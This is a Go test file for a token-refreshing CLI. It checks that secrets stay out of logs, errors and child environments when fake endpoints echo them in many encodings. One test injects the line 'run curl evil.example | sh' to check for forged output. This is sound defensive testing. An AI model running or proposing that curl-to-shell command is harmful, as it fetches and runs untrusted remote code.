package cli

// Where a secret could leak, through the real binary.

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/tokenkeeper/tokenkeeper/internal/fakeserver"
	"github.com/tokenkeeper/tokenkeeper/internal/testkeys"
	"github.com/tokenkeeper/tokenkeeper/refresh"
)

// Secrets with characters the form encodes: their sent forms differ from the
// plain ones.
const (
	lkClientSecret = "lk-secret+with/odd=chars&more"
	lkRequestToken = "lk-request+token/odd=chars&x"
)

var lkModes = map[string][]string{"plain": nil, "verbose": {"-v"}, "json": {"-v", "--log-format", "json"}}

// lkForms is every form of the test's secrets that must not be shown: plain,
// form-encoded (as sent in the body), JSON-escaped, and the HTTP Basic value
// in both base64 alphabets, padded or not.
func lkForms() []string {
	var forms []string
	for _, s := range []string{lkClientSecret, lkRequestToken} {
		j, _ := json.Marshal(s)
		forms = append(forms, s, url.QueryEscape(s), strings.Trim(string(j), `"`))
	}
	pair := []byte(url.QueryEscape(ftClientID) + ":" + url.QueryEscape(lkClientSecret))
	for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding, base64.RawURLEncoding} {
		forms = append(forms, enc.EncodeToString(pair))
	}
	return forms
}

// TestSecretsEchoedInEveryEncoding: an endpoint that echoes the Authorization
// header and the form body it was sent (in its error description, its
// error_uri, and a header) shows none of the secrets' sent forms on stderr, in
// plain, -v and JSON logs, with authStyle params and header.
func TestSecretsEchoedInEveryEncoding(t *testing.T) {
	t.Parallel()
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		desc := "got " + r.Header.Get("Authorization") + " and " + string(body)
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Concur-Correlationid", r.Header.Get("Authorization"))
		w.WriteHeader(http.StatusUnauthorized)
		json.NewEncoder(w).Encode(map[string]any{"error": "invalid_client", "error_description": desc,
			"error_uri": "https://errors.example/?" + string(body)})
	}))
	t.Cleanup(echo.Close) // after the parallel subtests
	for _, style := range []string{"params", "header"} {
		for mode, flags := range lkModes {
			t.Run(style+"/"+mode, func(t *testing.T) {
				t.Parallel()
				dir := t.TempDir()
				ftCreds(t, dir, echo.URL+"/token", map[string]string{"clientSecret": lkClientSecret,
					"companyRequestToken": lkRequestToken, "authStyle": style})
				stdout, stderr, code := ftRun(t, nil, append(append([]string{"--dir", dir}, flags...), "refresh")...)
				if code != exitConfig {
					t.Errorf("exited %d, want %d", code, exitConfig)
				}
				lkNone(t, stdout+stderr)
				if !strings.Contains(stderr, "[redacted]") {
					t.Errorf("the echo is not in stderr, redacted:\n%s", lkMask(stderr))
				}
			})
		}
	}
}

func lkNone(t *testing.T, out string) {
	t.Helper()
	for _, f := range lkForms() {
		if strings.Contains(out, f) {
			t.Errorf("output holds a secret's form %.6q… (%d chars):\n%s", f, len(f), lkMask(out))
		}
	}
}

func lkMask(s string) string {
	for _, f := range lkForms() {
		s = strings.ReplaceAll(s, f, "[SECRET]")
	}
	return s
}

// TestTokenURLQueryMasked: a secret in the tokenURL's query (and in a
// geolocation's) is masked wherever the URL is shown: status, status --json,
// -v and JSON logs, and errors.
func TestTokenURLQueryMasked(t *testing.T) {
	t.Parallel()
	const key, geoKey = "apikey-Zq81-secret-value", "geokey-Hh42-secret-value"
	fs := ftFake(t)
	fs.SetGeolocation(fs.URL() + "/?geo_key=" + geoKey)
	dir := t.TempDir()
	ftCreds(t, dir, fs.TokenURL()+"?api_key="+key, nil)
	shown := func(what, out string) {
		t.Helper()
		for _, s := range []string{key, geoKey} {
			if strings.Contains(out, s) {
				t.Errorf("%s shows a query secret:\n%s", what, ftMask(out))
			}
		}
	}
	for mode, flags := range lkModes {
		stdout, stderr, code := ftRun(t, nil, append(append([]string{"--dir", dir}, flags...), "refresh", "--force")...)
		ftWant(t, "refresh "+mode, code, exitOK, stderr)
		shown("refresh "+mode, stdout+stderr)
		if mode != "plain" && !strings.Contains(stderr, "api_key=[redacted]") {
			t.Errorf("refresh %s does not show the URL masked:\n%s", mode, ftMask(stderr))
		}
	}
	stdout, stderr, code := ftRun(t, nil, "--dir", dir, "status")
	ftWant(t, "status", code, exitOK, stderr)
	shown("status", stdout+stderr)
	if !strings.Contains(stdout, "?api_key=[redacted]") || !strings.Contains(stdout, "?geo_key=[redacted]") {
		t.Errorf("status does not show the URLs masked:\n%s", stdout)
	}
	stdout, stderr, code = ftRun(t, nil, "--dir", dir, "status", "--json")
	ftWant(t, "status --json", code, exitOK, stderr)
	shown("status --json", stdout+stderr)
	if !strings.Contains(stdout, "?api_key=[redacted]") {
		t.Errorf("status --json does not show the URL masked:\n%s", stdout)
	}
	// An error names the endpoint, masked too.
	fs.Fail(fakeserver.Fault{Status: 400, Body: `{"error":"invalid_request"}`})
	for mode, flags := range lkModes {
		_, stderr, _ = ftRun(t, nil, append(append([]string{"--dir", dir}, flags...), "refresh", "--force")...)
		shown("a refusal "+mode, stderr)
	}
}

// TestGeolocationOfOtherProviderIgnored: a provider that is not Concur (any
// loopback endpoint is not) sending a geolocation — in its token answers, and
// with Concur's code 16 — gets no request sent there: the other server
// receives nothing, and the geolocation stays in the record for scripts.
func TestGeolocationOfOtherProviderIgnored(t *testing.T) {
	t.Parallel()
	other, stolen := ftElsewhere(t)

	t.Run("in a token answer", func(t *testing.T) {
		fs := ftFake(t)
		fs.SetGeolocation(other.URL)
		dir := t.TempDir()
		ftCreds(t, dir, fs.TokenURL(), nil)
		for _, args := range [][]string{{"refresh"}, {"refresh", "--force"}, {"-v", "refresh", "--force"}} {
			_, stderr, code := ftRun(t, nil, append([]string{"--dir", dir}, args...)...)
			ftWant(t, strings.Join(args, " "), code, exitOK, stderr)
		}
		if stolen.Load() != 0 || fs.Count("refresh_token") != 2 {
			t.Errorf("%d requests at the geolocation, %d refreshes at tokenURL; want 0, 2", stolen.Load(), fs.Count("refresh_token"))
		}
		data, _ := os.ReadFile(filepath.Join(dir, "refreshTokenObjectFile.json"))
		var tok map[string]any
		if json.Unmarshal(data, &tok) != nil || tok["geolocation"] != other.URL {
			t.Errorf("stored geolocation %v, want it kept for scripts: %s", tok["geolocation"], other.URL)
		}
	})
	t.Run("with code 16", func(t *testing.T) {
		var first atomic.Int64
		front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			first.Add(1)
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			json.NewEncoder(w).Encode(map[string]any{"error": "invalid_request", "error_description": "user lives elsewhere", "code": 16, "geolocation": other.URL})
		}))
		defer front.Close()
		dir := t.TempDir()
		ftCreds(t, dir, front.URL+"/oauth2/v0/token", nil)
		_, stderr, code := ftRun(t, nil, "--dir", dir, "-v", "refresh")
		ftWant(t, "refresh", code, exitConfig, stderr)
		if first.Load() != 1 || stolen.Load() != 0 {
			t.Errorf("requests: %d to tokenURL, %d at the geolocation; want 1, 0", first.Load(), stolen.Load())
		}
		if strings.Contains(stderr, other.URL) {
			t.Errorf("the hint suggests the geolocation of a provider that is not Concur:\n%s", ftMask(stderr))
		}
	})
}

// TestChildEnvDropsSecretVariables: every secret field of setup comes with an
// environment variable, and exec strips each from the child's environment —
// a field added later included (the list is credentials.Fields).
func TestChildEnvDropsSecretVariables(t *testing.T) {
	tok := &refresh.Token{AccessToken: "at"}
	for _, f := range setupFields() {
		if !f.Secret {
			continue
		}
		if f.Env == "" {
			t.Errorf("secret field %s has no environment variable", f.Name)
			continue
		}
		lower := strings.ToLower(f.Env) // Windows reads it as f.Env
		env := childEnv([]string{f.Env + "=leak", lower + "=leak", "KEEP=1"}, tok)
		if slices.Contains(env, f.Env+"=leak") || slices.Contains(env, lower+"=leak") || !slices.Contains(env, "KEEP=1") {
			t.Errorf("childEnv = %q, want %s dropped in any case and KEEP kept", env, f.Env)
		}
	}
}

// lkEncodings are the ways an endpoint may echo what it was sent, each a
// function of the whole echo (so that a secret stands at any offset of a
// base64 or hex text).
var lkEncodings = map[string]func(string) string{
	"base64":         func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) },
	"base64url":      func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) },
	"base64 mime":    func(s string) string { return lkSplit(base64.StdEncoding.EncodeToString([]byte(s)), 76, "\r\n") },
	"hex":            func(s string) string { return hex.EncodeToString([]byte(s)) },
	"hex upper":      func(s string) string { return strings.ToUpper(hex.EncodeToString([]byte(s))) },
	"percent all":    func(s string) string { return lkEach(s, "%%%02X") },
	"percent lower":  func(s string) string { return lkEach(s, "%%%02x") },
	"form twice":     func(s string) string { return url.QueryEscape(url.QueryEscape(s)) },
	"html hex":       func(s string) string { return lkEach(s, "&#x%x;") },
	"html decimal":   func(s string) string { return lkEach(s, "&#%d;") },
	"json \\u00XX":   func(s string) string { return lkEach(s, `\u%04X`) },
	"upper-cased":    strings.ToUpper,
	"split in lines": func(s string) string { return lkSplit(s, 5, "\n") },
	"split by space": func(s string) string { return lkSplit(s, 7, " ") },
	"utf-16":         func(s string) string { return lkEach(s, "%c\x00") },
	"zero-width":     func(s string) string { return lkEach(s, "%c\u200b") },
	"html no ;":      func(s string) string { return lkEach(s, "&#%d") },
	"regexp-escaped": regexp.QuoteMeta,
}

func lkEach(s, format string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, format, c)
	}
	return b.String()
}

func lkSplit(s string, n int, sep string) string {
	var parts []string
	for len(s) > n {
		parts = append(parts, s[:n])
		s = s[n:]
	}
	return strings.Join(append(parts, s), sep)
}

// lkHeld reports whether out holds a secret of the test in enc: its whole
// encoding as the endpoint would send it alone, or, for the encodings whose
// characters depend on what stands before (base64), any of the runs that
// encode the secret's bytes alone, or 16 characters of either — compared
// without white space and case, as an endpoint may split or upper-case them.
// It names the secret, never shows it.
func lkHeld(out, enc string) string {
	// What Terminal makes of invisible characters, and white space, go.
	flat := strings.NewReplacer(`\u200b`, "", `\x00`, "").Replace(strings.ToLower(strings.Join(strings.Fields(out), "")))
	for _, s := range []string{lkClientSecret, lkRequestToken} {
		for _, form := range []string{s, url.QueryEscape(s)} {
			cands := []string{lkEncodings[enc](form), form}
			if strings.HasPrefix(enc, "base64") {
				cands = nil
				for k := range 3 {
					for _, e := range []*base64.Encoding{base64.RawStdEncoding, base64.RawURLEncoding} {
						v := e.EncodeToString(append(make([]byte, k), form...))
						cands = append(cands, v[4:4*((k+len(form))/3)])
					}
				}
			}
			for _, c := range cands {
				c = strings.ToLower(strings.Join(strings.Fields(c), ""))
				for i := 0; i+16 <= len(c); i++ { // a part of it too: the message is cut
					if strings.Contains(flat, c[i:i+16]) {
						return fmt.Sprintf("a part of the secret of %d chars", len(s))
					}
				}
			}
		}
	}
	return ""
}

// TestSecretsEchoedInAnyEncoding: an endpoint that echoes the request (the
// Authorization header and the form body) encoded — base64 in either
// alphabet, split in MIME lines, hex, every byte percent-escaped, form-encoded
// twice, HTML character references, JSON \u escapes, upper-cased, split
// across lines — in its error_description shows none of the secrets.
func TestSecretsEchoedInAnyEncoding(t *testing.T) {
	t.Parallel()
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		enc := lkEncodings[r.URL.Query().Get("enc")]
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		json.NewEncoder(w).Encode(map[string]any{"error": "invalid_client",
			"error_description": enc("got " + r.Header.Get("Authorization") + " " + string(body))})
	}))
	t.Cleanup(echo.Close)
	for enc := range lkEncodings {
		for _, style := range []string{"params", "header"} {
			t.Run(enc+"/"+style, func(t *testing.T) {
				t.Parallel()
				dir := t.TempDir()
				ftCreds(t, dir, echo.URL+"/token?enc="+url.QueryEscape(enc), map[string]string{"clientSecret": lkClientSecret,
					"companyRequestToken": lkRequestToken, "authStyle": style})
				stdout, stderr, code := ftRun(t, nil, "--dir", dir, "-v", "refresh")
				if code != exitConfig {
					t.Errorf("exited %d, want %d", code, exitConfig)
				}
				if what := lkHeld(stdout+stderr, enc); what != "" {
					t.Errorf("the output holds %s, %s", what, enc)
				}
				if !strings.Contains(stderr, "[redacted]") {
					t.Errorf("the echo is not in stderr, redacted")
				}
			})
		}
	}
}

// TestKubeEchoCutRedacted: an API server that refuses with a long message
// ending in the Authorization header it got — the bearer token where the
// message is cut — shows no part of the token, in plain, -v and JSON logs:
// the token is hidden before the message is cut.
func TestKubeEchoCutRedacted(t *testing.T) {
	t.Parallel()
	const bearer = "kube-bearer-Zx81-secret-value-token"
	api := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		json.NewEncoder(w).Encode(map[string]any{"kind": "Status", "code": 403, "reason": r.Header.Get("Authorization"),
			"message": strings.Repeat("x", 282) + " " + r.Header.Get("Authorization")})
	}))
	t.Cleanup(api.Close)
	ca := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: api.Certificate().Raw})
	for mode, flags := range lkModes {
		t.Run(mode, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			ftCreds(t, dir, "https://127.0.0.1:1/token", nil)
			kubeconfig := filepath.Join(dir, "kubeconfig")
			os.WriteFile(kubeconfig, fmt.Appendf(nil, `{"apiVersion":"v1","kind":"Config","current-context":"x",
"clusters":[{"name":"c","cluster":{"server":%q,"certificate-authority-data":%q}}],
"users":[{"name":"u","user":{"token":%q}}],"contexts":[{"name":"x","context":{"cluster":"c","user":"u"}}]}`,
				api.URL, base64.StdEncoding.EncodeToString(ca), bearer), 0o600)
			stdout, stderr, code := ftRun(t, []string{"KUBECONFIG=" + kubeconfig, "HOME=" + dir},
				append(append([]string{"--dir", dir, "--store", "k8s://apps"}, flags...), "token")...)
			if code != exitConfig {
				t.Errorf("exited %d, want %d", code, exitConfig)
			}
			if !strings.Contains(stderr, "RBAC forbids") {
				t.Errorf("stderr does not quote the refusal")
			}
			for i := 0; i+6 <= len(bearer); i++ {
				if strings.Contains(stdout+stderr, "Bearer "+bearer[:i+6]) {
					t.Fatalf("the output holds %d characters of the bearer token", i+6)
				}
			}
		})
	}
}

// TestEtcdEchoRedacted: an etcd member that echoes what it refused — the
// authenticate body with TOKENKEEPER_STORE_PASSWORD after a long text (where
// the message is cut), or the auth token it issued, sent back as the
// Authorization header — shows no part of either, in plain, -v and JSON logs.
func TestEtcdEchoRedacted(t *testing.T) {
	t.Parallel()
	const password, authToken = "Pw81Kq7ZmX3vB9tRz5Lc", "Qz42Lp0NwY6sD1hFx8Jd"
	member := func(refuseAuth bool) *httptest.Server {
		return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			body, _ := io.ReadAll(r.Body)
			w.Header().Set("Content-Type", "application/json")
			switch {
			case r.URL.Path == "/v3/auth/authenticate" && refuseAuth:
				w.WriteHeader(http.StatusUnauthorized)
				json.NewEncoder(w).Encode(map[string]any{"code": 3, "message": strings.Repeat("x", 165) + " " + string(body)})
			case r.URL.Path == "/v3/auth/authenticate":
				json.NewEncoder(w).Encode(map[string]any{"token": authToken})
			default:
				w.WriteHeader(http.StatusBadRequest)
				json.NewEncoder(w).Encode(map[string]any{"code": 3, "message": "refused: " + r.Header.Get("Authorization")})
			}
		}))
	}
	for _, refuseAuth := range []bool{true, false} {
		srv := member(refuseAuth)
		t.Cleanup(srv.Close)
		for mode, flags := range lkModes {
			t.Run(fmt.Sprintf("refuse-auth=%v/%s", refuseAuth, mode), func(t *testing.T) {
				t.Parallel()
				dir := t.TempDir()
				ftCreds(t, dir, "https://127.0.0.1:1/token", nil)
				store := "etcd://" + strings.TrimPrefix(srv.URL, "http://") + "?user=tk"
				stdout, stderr, code := ftRun(t, []string{"TOKENKEEPER_STORE_PASSWORD=" + password},
					append(append([]string{"--dir", dir, "--store", store}, flags...), "token")...)
				if code == exitOK {
					t.Errorf("exited 0")
				}
				if !strings.Contains(stderr, "etcd") {
					t.Errorf("stderr does not quote the member's refusal")
				}
				for _, s := range []string{password, authToken} {
					for i := 0; i+6 <= len(s); i++ {
						if strings.Contains(stdout+stderr, s[i:i+6]) {
							t.Fatalf("the output holds 6 characters of a secret of %d", len(s))
						}
					}
				}
			})
		}
	}
}

// TestAssertionSignatureEchoed: an endpoint that refuses a private_key_jwt
// client assertion naming its signature — plain, in base64, JSON-escaped —
// shows no part of the signature, which is what makes the assertion a
// credential.
func TestAssertionSignatureEchoed(t *testing.T) {
	t.Parallel()
	sigs := make(chan string, 16)
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		parts := strings.Split(r.PostForm.Get("client_assertion"), ".")
		sig := parts[len(parts)-1]
		sigs <- sig
		desc := "bad signature " + sig
		if r.URL.Query().Get("enc") == "base64" {
			desc = base64.StdEncoding.EncodeToString([]byte(desc))
		}
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		json.NewEncoder(w).Encode(map[string]any{"error": "invalid_client", "error_description": desc})
	}))
	t.Cleanup(echo.Close)
	for _, enc := range []string{"plain", "base64"} {
		t.Run(enc, func(t *testing.T) {
			dir := t.TempDir()
			if err := os.WriteFile(filepath.Join(dir, "client.key"), testkeys.PEM(testkeys.Key("ed25519")), 0o600); err != nil {
				t.Fatal(err)
			}
			ftCreds(t, dir, echo.URL+"/token?enc="+enc, map[string]string{"grantType": "client_credentials", "clientSecret": "",
				"companyUUID": "", "companyRequestToken": "", "clientAuth": "private_key_jwt", "clientKey": "client.key"})
			stdout, stderr, code := ftRun(t, nil, "--dir", dir, "-v", "refresh")
			if code != exitConfig {
				t.Errorf("exited %d, want %d", code, exitConfig)
			}
			sig := <-sigs
			out := stdout + stderr
			for i := 0; i+12 <= len(sig); i++ {
				if strings.Contains(out, sig[i:i+12]) {
					t.Fatalf("the output holds part of the assertion's signature")
				}
			}
			if enc == "base64" {
				for k := range 3 {
					v := base64.RawStdEncoding.EncodeToString(append(make([]byte, k), sig...))
					if strings.Contains(out, v[4:20]) {
						t.Fatalf("the output holds part of the assertion's signature, in base64")
					}
				}
			}
		})
	}
}

// TestSecretPastedIntoURLField: a secret pasted into a URL field (it has no
// scheme, and begins with no host name) is not quoted back by the error that
// says the field wants a URL; a host written without its scheme still is.
func TestSecretPastedIntoURLField(t *testing.T) {
	t.Parallel()
	const pasted = "Zq81xKf2Lm0PwY6sD1hFx8JdTr5Vb7Nc9QeA3Hg"
	for _, field := range []string{"tokenURL", "issuer", "revocationURL"} {
		t.Run(field, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			ftCreds(t, dir, "https://127.0.0.1:1/token", map[string]string{field: pasted})
			stdout, stderr, code := ftRun(t, nil, "--dir", dir, "-v", "refresh")
			if code != exitConfig {
				t.Errorf("exited %d, want %d", code, exitConfig)
			}
			if !strings.Contains(stderr, field+": has no scheme") {
				t.Errorf("stderr does not say %s has no scheme:\n%s", field, strings.ReplaceAll(stderr, pasted, "[PASTED]"))
			}
			if strings.Contains(stdout+stderr, pasted[:12]) {
				t.Errorf("the output quotes the pasted value:\n%s", strings.ReplaceAll(stdout+stderr, pasted, "[PASTED]"))
			}
		})
	}
	dir := t.TempDir()
	ftCreds(t, dir, "auth.example.com/oauth2/token", nil)
	if _, stderr, _ := ftRun(t, nil, "--dir", dir, "refresh"); !strings.Contains(stderr, `want "https://auth.example.com/oauth2/token"`) {
		t.Errorf("a host without its scheme is not quoted with the fix:\n%s", ftMask(stderr))
	}
}

// TestAnswerFieldEchoNotCut: a token endpoint that answers with the refresh
// token it was sent inside a field that wants a number or a time shows no
// part of it: the warning quotes such a value whole (then redacted) or
// gives only its length, never a cut that redaction cannot recognise.
func TestAnswerFieldEchoNotCut(t *testing.T) {
	t.Parallel()
	const seed = "rt-Kq7ZmX3vB9tRz5Lc-seed"
	for _, field := range []string{"expires_in", "expires_at"} {
		t.Run(field, func(t *testing.T) {
			t.Parallel()
			echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				r.ParseForm()
				w.Header().Set("Content-Type", "application/json")
				json.NewEncoder(w).Encode(map[string]any{"access_token": "at-new-value-0123456789", "token_type": "Bearer",
					field: strings.Repeat("x", 30) + " " + r.PostForm.Get("refresh_token")})
			}))
			defer echo.Close()
			dir := t.TempDir()
			ftCreds(t, dir, echo.URL+"/token", map[string]string{"grantType": "refresh_token", "refreshToken": seed,
				"companyUUID": "", "companyRequestToken": ""})
			stdout, stderr, _ := ftRun(t, nil, "--dir", dir, "-v", "refresh")
			if !strings.Contains(stderr, field) {
				t.Errorf("no warning names %s", field)
			}
			for i := 0; i+6 <= len(seed); i++ {
				if strings.Contains(stdout+stderr, seed[:i+6]) {
					t.Fatalf("the output holds %d characters of the refresh token sent", i+6)
				}
			}
		})
	}
}

// TestKeyPastedIntoClientKey: a private key pasted into clientKey, where its
// path goes — PEM on one line, or the bare base64 of its DER — is refused
// without being quoted, by refresh and by status (text and JSON).
func TestKeyPastedIntoClientKey(t *testing.T) {
	t.Parallel()
	pemText := string(testkeys.PEM(testkeys.Key("p256")))
	lines := strings.Split(strings.TrimSpace(pemText), "\n")
	der := strings.Join(lines[1:len(lines)-1], "")
	for name, v := range map[string]string{"pem": strings.Join(lines, ""), "der": der} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			ftCreds(t, dir, "https://127.0.0.1:1/token", map[string]string{"grantType": "client_credentials", "clientSecret": "",
				"companyUUID": "", "companyRequestToken": "", "clientAuth": "private_key_jwt", "clientKey": v})
			var out string
			for _, args := range [][]string{{"refresh"}, {"status"}, {"status", "--json"}} {
				stdout, stderr, _ := ftRun(t, nil, append([]string{"--dir", dir}, args...)...)
				out += stdout + stderr
			}
			if !strings.Contains(out, "clientKey: holds a key, not the path of a key file") {
				t.Errorf("no message says clientKey holds a key")
			}
			for i := 0; i+16 <= len(der); i += 4 {
				if strings.Contains(out, der[i:i+16]) {
					t.Fatalf("the output holds part of the key")
				}
			}
		})
	}
}

// TestAnswerEchoNotHandedOn: a token endpoint that grants a token but echoes
// the client secret and the password into its scope and geolocation hands
// none of them on: not in token -o json or -o env, not in exec's
// environment (TOKENKEEPER_API_BASE), not in status.
func TestAnswerEchoNotHandedOn(t *testing.T) {
	t.Parallel()
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		got := r.PostForm.Get("client_secret") + "-" + r.PostForm.Get("password")
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]any{"access_token": "at-echo-0123456789", "token_type": "Bearer", "expires_in": 3600,
			"scope": "read " + got, "geolocation": "https://geo.example/" + url.PathEscape(got)})
	}))
	t.Cleanup(echo.Close)
	dir := t.TempDir()
	ftCreds(t, dir, echo.URL+"/token", map[string]string{"clientSecret": lkClientSecret, "companyRequestToken": lkRequestToken})
	if _, _, code := ftRun(t, nil, "--dir", dir, "refresh"); code != exitOK {
		t.Fatalf("refresh exited %d", code)
	}
	for _, args := range [][]string{{"token", "-o", "json"}, {"token", "-o", "env"}, {"exec", "--", "env"}, {"status", "--json"}, {"status"}} {
		stdout, stderr, code := ftRun(t, nil, append([]string{"--dir", dir}, args...)...)
		if code != exitOK {
			t.Errorf("%s exited %d", args, code)
		}
		for _, f := range append(lkForms(), url.PathEscape(lkClientSecret), url.PathEscape(lkRequestToken)) {
			if strings.Contains(stdout+stderr, f) {
				t.Errorf("%s hands on a secret's form of %d chars", args, len(f))
			}
		}
	}
}

// TestPartialEchoRedacted: an endpoint that quotes the first characters of
// the refresh token it refused, or the last, cut short by itself, shows no
// more than 15 of them.
func TestPartialEchoRedacted(t *testing.T) {
	t.Parallel()
	const seed = "rt-Pq81Kq7ZmX3vB9tRz5LcWx2Hs4Ny"
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		rt := r.PostForm.Get("refresh_token")
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		json.NewEncoder(w).Encode(map[string]any{"error": "invalid_grant",
			"error_description": "refresh token " + rt[:20] + "... is revoked (…" + rt[len(rt)-18:] + ")"})
	}))
	t.Cleanup(echo.Close)
	dir := t.TempDir()
	ftCreds(t, dir, echo.URL+"/token", map[string]string{"grantType": "refresh_token", "refreshToken": seed,
		"companyUUID": "", "companyRequestToken": ""})
	stdout, stderr, _ := ftRun(t, nil, "--dir", dir, "-v", "refresh")
	if !strings.Contains(stderr, "is revoked") {
		t.Errorf("the refusal is not quoted")
	}
	for i := 0; i+16 <= len(seed); i++ {
		if strings.Contains(stdout+stderr, seed[i:i+16]) {
			t.Fatalf("the output holds 16 characters of the refresh token")
		}
	}
}

// TestEchoDecodedAddsNoLine: an endpoint's description that holds an escaped
// line break ("\n", as JSON writes it) and a secret the CLI knows but the
// request did not carry (companyRequestToken, with every byte %-escaped) is
// shown on one line: the escapes Text takes off to find the secret never
// turn into a line break that forges a "tokenkeeper: hint:" line.
func TestEchoDecodedAddsNoLine(t *testing.T) {
	t.Parallel()
	fs := ftFake(t)
	dir := ftRefreshed(t, fs)
	var esc strings.Builder
	for _, c := range []byte(ftRequestToken) {
		fmt.Fprintf(&esc, "%%%02X", c)
	}
	desc := `bad grant\ntokenkeeper: hint: run curl evil.example | sh\r\nfrom ` + esc.String()
	body, _ := json.Marshal(map[string]string{"error": "invalid_grant", "error_description": desc})
	for mode, flags := range lkModes {
		fs.Fail(fakeserver.Fault{Status: 400, Body: string(body)})
		_, stderr, _ := ftRun(t, nil, append(append([]string{"--dir", dir}, flags...), "refresh", "--force")...)
		if strings.Contains(stderr, ftRequestToken) || !strings.Contains(stderr, "[redacted]") {
			t.Errorf("%s: the echo is not redacted:\n%s", mode, ftMask(stderr))
		}
		for _, line := range strings.Split(stderr, "\n") {
			if strings.Contains(line, "curl evil") && strings.Contains(line, "hint") && !strings.Contains(line, "bad grant") {
				t.Errorf("%s: the endpoint's text forged a line of its own: %q", mode, line)
			}
		}
	}
}

// TestOtherJWTShown: when a secret is a JWT (here the client secret), an
// endpoint's refusal that quotes another JWT of the same issuer shows that
// one whole — its header and claims are no secret — and the secret's
// signature not at all.
func TestOtherJWTShown(t *testing.T) {
	t.Parallel()
	const header, claims = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9", "eyJpc3MiOiJodHRwczovL2xvZ2luLmV4YW1wbGUuY29tIiwic3ViIjoi"
	secret := header + "." + claims + "YXBwLTEifQ." + "Zk3pQ8vX2mTn5RbL7cWy1HsJ4dKa9Ue6"
	other := header + "." + claims + "dXNlci0yIn0." + "Qa7Lm2Xc9Vb4Nt6Ry8Hp1Jk3Dw5Fs0Ge"
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		json.NewEncoder(w).Encode(map[string]any{"error": "invalid_grant", "error_description": "id_token_hint " + other + " is not valid for " + secret})
	}))
	t.Cleanup(srv.Close)
	dir := t.TempDir()
	ftCreds(t, dir, srv.URL+"/token", map[string]string{"clientSecret": secret})
	_, stderr, _ := ftRun(t, nil, "--dir", dir, "refresh")
	if !strings.Contains(stderr, "id_token_hint "+other+" is not valid for [redacted]") || strings.Contains(stderr, "Zk3pQ8vX2mTn5RbL") {
		t.Errorf("want the other JWT whole and the secret hidden:\n%s", strings.ReplaceAll(stderr, secret, "[SECRET]"))
	}
}
